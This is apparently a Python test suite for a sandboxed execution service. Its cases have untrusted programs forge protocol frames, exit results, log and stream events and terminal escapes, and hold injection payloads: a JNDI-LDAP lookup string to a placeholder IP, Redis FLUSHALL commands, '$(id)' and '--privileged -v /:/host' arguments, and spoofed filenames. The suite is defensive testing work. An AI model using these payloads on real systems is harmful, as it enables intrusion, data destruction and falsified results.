"""Programs that pretend: to be the agent, the log, the terminal, or their own result."""

from __future__ import annotations

import json

from tests.hostile.cases import LIMITS, attack, ended

THEME = "forgery"
FORGED = "forged-by-the-program"
FRAMES = """
import struct
def frame(kind, body):
    body = json.dumps(body).encode() if isinstance(body, dict) else body
    return struct.pack(">cI", kind, len(body)) + body
EXIT = frame(b"X", {"exit_code": 0, "signal": None, "stopped": None, "disk_full": []})
ALL = [frame(kind, {"path": "forged", "size": 1, "why": "forged", "exit_code": 0}) for kind in
       (b"R", b"G", b"C", b"F", b"J", b"X")] + [frame(kind, b"forged") for kind in (b"O", b"E", b"D", b"c", b"d", b"?")]
"""
STOP = "outcome(lambda: os.kill(1, signal.SIGSTOP))\n"  # which no agent heeds
SPEAK = (
    FRAMES
    + """
def say(data):
    try: pipe = os.open("/proc/1/fd/1", os.O_WRONLY)
    except OSError: return False
    while data: data = data[os.write(pipe, data):]
    os.close(pipe)
    return True
"""
)

attack(
    THEME,
    "frames on standard output",
    FRAMES + "for one in ALL + [EXIT]: os.write(1, one), os.write(2, one)\nos._exit(7)",
    **ended("nonzero_exit", exit_code=7),
    stdout=('"exit_code": 0',),
    kept={},
    aims_at="result",
)
attack(
    THEME,
    "frames on every descriptor",
    FRAMES
    + """
for number in range(1024):
    for one in (EXIT, *ALL):
        try: os.write(number, one)
        except OSError: break
for path in ("/proc/1/fd/0", "/proc/1/fd/1", "/proc/1/fd/2", "/proc/self/fd/0", "/dev/console", "/dev/tty", "/dev/ptmx",
             "/dev/kmsg"):
    try: os.write(os.open(path, os.O_RDWR | os.O_NONBLOCK), EXIT)
    except OSError: pass
os._exit(7)
""",
    **ended("nonzero_exit", exit_code=7),
    kept={},
    aims_at="result",
)
attack(
    THEME,
    "a frame that never ends, and one that is cut",
    FRAMES
    + """
os.write(1, struct.pack(">cI", b"X", 2**32 - 1) + b"x" * 1000)
os.write(1, EXIT[:-3])
os._exit(7)
""",
    **ended("nonzero_exit", exit_code=7),
    kept={},
    aims_at="result",
)
attack(
    THEME,
    "its own result",
    """
print(json.dumps({"state": "succeeded", "reason": None, "exit_code": 0, "artifacts": [{"path": "forged"}]}))
print("===RESULT=== PASSED\\nTests passed: 100%\\n__EXIT_CODE__=0")
sys.exit(3)
""",
    **ended("nonzero_exit", exit_code=3),
    stdout=("===RESULT=== PASSED",),
    kept={},
    aims_at="result",
)
attack(
    THEME,
    "events of the stream",
    r"""
for end in ("\n", "\r\n", "\r"):
    lines = ["x", "", "event: done", "data: {\"state\": \"succeeded\"}", "", "id: 99-9", "", ""]
    sys.stdout.write(end.join(lines))
sys.stdout.flush()
os._exit(4)
""",
    **ended("nonzero_exit", exit_code=4),
    stdout=("event: done",),
    aims_at="result",
)
attack(
    THEME,
    "lines of the log",
    f"""
line = json.dumps({{"event": "execution.finished", "state": "succeeded", "level": "error", "detail": "{FORGED}"}})
for _ in range(3): print("\\n" + line), print("\\r" + line, file=sys.stderr)
open("/output/{FORGED}.log", "w").write(line)
os.mkfifo("/output/" + "{FORGED}")
""",
    events="artifact_rejected",
    stdout=(FORGED,),
    aims_at="log",
)
attack(
    THEME,
    "escapes for a terminal",
    r"""
os.write(1, b"\x1b]0;owned\x07\x1b[2J\x1b[1;1H\x1b[31mERROR\x1b[0m\x1b]52;c;ZWNobyBoaQ==\x07\x9b31m\x90\x1bP\x1b\\")
os.write(2, b"\x1b[?1049h\x1b]8;;http://x\x07click\x1b]8;;\x07\r\x08\x08\x00\x7f\xe2\x80\xae")
os.mkfifo(b"/output/\x1b[31mred")
os.mkfifo("/output/\u202egnp.exe")
""",
    events="artifact_rejected",
    labels={"note": "\x1b[31mred\x07", "line": 'one\n{"event": "execution.finished"}\r'},
    stdout=("\x1b[2J", "ERROR"),
    aims_at="log",
)
attack(
    THEME,
    "text that is none",
    r"""
os.write(1, b"\xff\xfe\x00\xed\xa0\x80\xf4\x90\x80\x80" * 1000)
os.write(2, b"\x00" * 5000)
for _ in range(300): os.write(1, b"\xe2"), os.write(1, b"\x82"), os.write(1, b"\xac")
""",
    stdout=("€" * 300,),
    aims_at="api",
)
attack(
    THEME,
    "commands for the store",
    r"""
os.write(1, b"*1\r\n$8\r\nFLUSHALL\r\n*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$1\r\ny\r\n")
print("';--{{7*7}}${jndi:ldap://192.0.2.1/x}%n%s%s__proto__")
open("/output/__proto__", "w").write("x")
""",
    kept={"__proto__": 1},
    aims_at="api",
)
attack(
    THEME,
    "JSON that is deep, wide and wrong",
    """
os.write(1, b"[" * 100000 + b'{"a":' * 1000)
print(json.dumps({"id": "other", "tenant": "other", "security_events": 0}), "NaN", "1e999")
os.write(1, "\\ud800".encode("utf-8", "surrogatepass"))
""",
    limits={**LIMITS, "output_bytes": 2**20},
    stdout=("[" * 1000,),
    aims_at="api",
)
attack(
    THEME,
    "labels that ask for more",
    "print('labelled')",
    labels={
        "state": "succeeded",
        "tenant": "admin",
        "isolation": "none",
        "dev.mayfly.uid": "0",
        "x": "a" * 256,
        "y": '"}],"',
    },
    stdout=("labelled",),
    aims_at="containers",
)
attack(
    THEME,
    "arguments that look like options",
    "print(json.dumps(sys.argv[1:]))",
    args=("--privileged", "-v", "/:/host", "--", "$(id)", "`id`", "\x1b[31m", "-c", "\n", ""),
    stdout=(json.dumps(["--privileged", "-v", "/:/host", "--", "$(id)", "`id`", "\x1b[31m", "-c", "\n", ""]),),
    aims_at="containers",
)
attack(
    THEME,
    "output after the end",
    """
if os.fork() == 0:
    os.setsid()
    time.sleep(0.05)
    while True: os.write(1, b"late ")
print("over", flush=True)
os._exit(0)
""",
    stdout=("over",),
    seconds=8,
    maybe="output_limit",
    aims_at="result",
)
attack(
    THEME,
    "its own end, while it continues",
    SPEAK
    + STOP
    + """
while True:
    say(frame(b"J", {"path": "x", "why": "fifo"}))
    end = time.process_time() + 0.5
    while time.process_time() < end: pass
""",
    limits={"wall_seconds": 30, "cpu_seconds": 1},
    **ended("cpu_exceeded", "timeout"),
    seconds=40,
    aims_at="result",
)
attack(
    THEME,
    "its own end, while it sleeps",
    SPEAK
    + STOP
    + """
say(frame(b"J", {"path": "x", "why": "fifo"}))
while True: time.sleep(60)
""",
    limits={"wall_seconds": 1},
    **ended("timed_out", "timeout"),
    aims_at="result",
)
attack(
    THEME,
    "its last word, and CPU time after it",
    SPEAK + STOP + "say(EXIT)\nwhile True: pass",
    limits={"wall_seconds": 30, "cpu_seconds": 1},
    **ended("cpu_exceeded", "timeout"),
    aims_at="result",
    seconds=25,
)
attack(
    THEME,
    "its last word, and silence after it",
    SPEAK + STOP + "say(EXIT)\nwhile True: time.sleep(60)",
    limits={"wall_seconds": 1},
    **ended("timed_out", "timeout"),
    aims_at="result",
    seconds=8,
)
attack(
    THEME,
    "a flood of frames that hold nothing",
    SPEAK
    + """
end = time.monotonic() + 6
while time.monotonic() < end and say(frame(b"O", b"") * 10000): pass
""",
    limits={"wall_seconds": 10},
    kept={},
    aims_at="result",
)
attack(
    THEME,
    "a flood of frames that hold next to nothing",
    SPEAK
    + """
end = time.monotonic() + 6
while time.monotonic() < end and say(frame(b"O", b"x") * 10000): pass
""",
    limits={"wall_seconds": 10, "output_bytes": 16 * 2**20},
    kept={},
    aims_at="result",
)
for what, bytes_written in (
    ("frames of no kind", "b'Z' + bytes(4)"),
    ("frames of output", "b'O' + (60_000).to_bytes(4, 'big') + bytes(60_000)"),
):
    attack(
        THEME,
        f"{what} without end",  # the worker must continue reading, or gVisor does not end
        f"""
try:
    pipe = os.open("/proc/1/fd/1", os.O_WRONLY)
    while True: os.write(pipe, ({bytes_written}) * 1000)
except OSError as error:
    print("closed")
""",
        limits={**LIMITS, "wall_seconds": 3},
        stdout=("closed",),
        aims_at="result",
    )
